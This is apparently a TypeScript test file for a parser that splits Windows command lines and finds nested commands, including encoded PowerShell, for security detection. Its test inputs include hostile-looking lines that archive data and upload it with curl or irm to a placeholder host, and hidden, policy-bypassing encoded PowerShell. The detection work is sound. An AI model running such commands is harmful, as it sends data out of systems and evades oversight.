import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ARGUMENTS_MAX, COMMAND_LINE_MAX_CHARS, splitArguments } from '../../enrich/evidence/command-line.ts';
import { COMMANDS_MAX, commandsIn } from '../../enrich/evidence/commands.ts';

const words = (line: string): readonly string[] => splitArguments(line).words;
const programs = (line: string): readonly string[] => commandsIn(line).map((command) => command.program);
const encode = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

describe('splitArguments', () => {
  // The examples of Microsoft's "Parsing C command-line arguments", with a program name in front.
  it.each([
    ['p "a b c" d e', ['a b c', 'd', 'e']],
    ['p "ab\\"c" "\\\\" d', ['ab"c', '\\', 'd']],
    ['p a\\\\\\b d"e f"g h', ['a\\\\\\b', 'de fg', 'h']],
    ['p a\\\\\\"b c d', ['a\\"b', 'c', 'd']],
    ['p a\\\\\\\\"b c" d e', ['a\\\\b c', 'd', 'e']],
    ['p a"b"" c d', ['ab" c d']],
  ])('splits %s as the C runtime does', (line, expected) => {
    expect(words(line).slice(1)).toEqual(expected);
  });
  it('takes quotes inside a token off', () => {
    expect(words('rar a -hp"blue moon" x.rar')).toEqual(['rar', 'a', '-hpblue moon', 'x.rar']);
  });
  it('knows no escapes in the program name', () => {
    expect(words('"C:\\Program Files\\7-Zip\\"7z.exe a')).toEqual(['C:\\Program Files\\7-Zip\\7z.exe', 'a']);
  });
  it('treats line ends as blanks and keeps empty arguments', () => {
    expect(words('p a\r\n"" b')).toEqual(['p', 'a', '', 'b']);
  });
  it('says that it cut a line that is longer than Windows allows, or has too many words', () => {
    expect(splitArguments(`p ${'x'.repeat(COMMAND_LINE_MAX_CHARS)}`).cut).toBe(true);
    expect(splitArguments(`p ${'x '.repeat(ARGUMENTS_MAX)}`)).toMatchObject({ cut: true });
    expect(splitArguments('p x').cut).toBe(false);
  });
  it('gives back words that were quoted for it', () => {
    const quote = (word: string): string => `"${word.replace(/(\\*)"/g, '$1$1\\"').replace(/(\\+)$/, '$1$1')}"`;
    const word = fc
      .array(fc.constantFrom('a', ' ', '\\', '"', 'é', '\t'), { maxLength: 8 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(word, { maxLength: 6 }), (list) => {
        expect(words(`p ${list.map(quote).join(' ')}`).slice(1)).toEqual(list);
      }),
      { numRuns: 3_000 },
    );
  });
});

describe('commandsIn', () => {
  it('sees archiver and uploader inside cmd /c', () => {
    expect(programs('cmd /c "7z a x.7z d && curl -T x.7z https://h/"')).toEqual(['cmd', '7z', 'curl']);
    expect(
      programs('C:\\Windows\\System32\\cmd.exe /d /s /c ""C:\\Program Files\\7-Zip\\7z.exe" a "x y.7z" d"'),
    ).toEqual(['cmd', '7z']);
    expect(programs('cmd /c rar a x.rar d > log.txt 2>&1')).toEqual(['cmd', 'rar']);
    expect(programs('cmd/c rar a x.rar d|find /v ""')).toEqual(['cmd', 'rar', 'find']);
  });
  it('keeps operators apart from text that is quoted or escaped', () => {
    expect(programs('cmd /c echo "a && 7z a x" ^& 7z a y')).toEqual(['cmd', 'echo']);
  });
  it('follows loops, conditions and start, and takes redirections out', () => {
    const [, copy] = commandsIn('cmd /c for /R c: %f in (*.docx) do @copy %f c:\\temp\\ >nul 2>&1');
    expect(copy).toMatchObject({ program: 'copy', looped: true, words: ['%f', 'c:\\temp\\'] });
    const [, packer, echo] = commandsIn(
      'cmd /c if exist c:\\a.txt (makecab c:\\a.txt c:\\b.cab) else echo no > c:\\l.txt',
    );
    expect(packer).toMatchObject({ program: 'makecab', words: ['c:\\a.txt', 'c:\\b.cab'] });
    expect(echo).toMatchObject({ program: 'echo', output: 'c:\\l.txt' });
    expect(programs('cmd /c start "" /b /wait rar m out.rar x')).toEqual(['cmd', 'rar']);
  });
  it('reads PowerShell scripts, encoded ones too, under any shortening of the option', () => {
    const script =
      "Compress-Archive -Path 'C:\\a b' -DestinationPath $env:TEMP\\x.zip; irm -Method Post -InFile x https://h/";
    for (const option of ['-EncodedCommand', '-enc', '-e', '/ec', '\u2013enco']) {
      const found = commandsIn(`powershell.exe -nop -w hidden -ep bypass ${option} ${encode(script)}`);
      expect(found.map((command) => command.program)).toEqual(['powershell', 'compress-archive', 'irm']);
      expect(found[1]).toMatchObject({
        encoded: true,
        words: ['-Path', 'C:\\a b', '-DestinationPath', '$env:TEMP\\x.zip'],
      });
    }
    expect(
      programs(`powershell "& 'C:\\Program Files\\7-Zip\\7z.exe' a x; Start-Process curl -ArgumentList '-T','x'"`),
    ).toEqual(['powershell', '7z', 'start-process', 'curl']);
    expect(commandsIn('pwsh -c "gci -r | % { Copy-Item $_ c:\\t }"').at(-1)).toMatchObject({
      program: 'copy-item',
      looped: true,
    });
  });
  it('looks through launchers and shells inside shells', () => {
    expect(programs('wmic process call create "cmd /c rar a x.rar d"')).toEqual(['wmic', 'cmd', 'rar']);
    expect(commandsIn('forfiles /p c:\\ /m *.docx /c "cmd /c copy @file c:\\t"').at(-1)).toMatchObject({
      program: 'copy',
      looped: true,
    });
    expect(programs('bash -c "tar czf - /c/data | curl -T - https://h"')).toEqual(['bash', 'tar', 'curl']);
  });
  it('does not read operators into a program that is no shell', () => {
    expect(programs('7z a x.7z & curl')).toEqual(['7z']);
  });
  it('leaves alone what is no encoded script', () => {
    expect(programs('powershell -enc not*base64')).toEqual(['powershell']);
    expect(programs('powershell -e AAAA')).toEqual(['powershell']);
  });
  it('stops at its caps however deep or long the script is', () => {
    expect(commandsIn(`cmd /c ${'cmd /c '.repeat(4_000)}7z a x`).length).toBeLessThanOrEqual(COMMANDS_MAX);
    expect(commandsIn(`cmd /c ${'a&'.repeat(16_000)}`).length).toBeLessThanOrEqual(COMMANDS_MAX);
  });
});

const shard = fc.constantFrom(
  'cmd /c ',
  'powershell -c ',
  '"',
  "'",
  '`',
  '^',
  '&',
  '|',
  ';',
  '(',
  ')',
  '{',
  '}',
  '>',
  '<',
  'for %i in (',
  ') do ',
  'if exist ',
  'start ',
  '\\',
  ' ',
  '-enc ',
  ',',
  '@',
  '$',
  '#',
  '\n',
  'iex ',
  'x',
);

describe('hostile command lines', () => {
  it('never throw, stay within the caps and give the same answer twice', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(shard, fc.string({ maxLength: 5 })), { maxLength: 60 }), (pieces) => {
        const line = pieces.join('');
        const found = commandsIn(line);
        expect(found.length).toBeLessThanOrEqual(COMMANDS_MAX);
        expect(commandsIn(line)).toEqual(found);
      }),
      { numRuns: 2_000 },
    );
  });
});
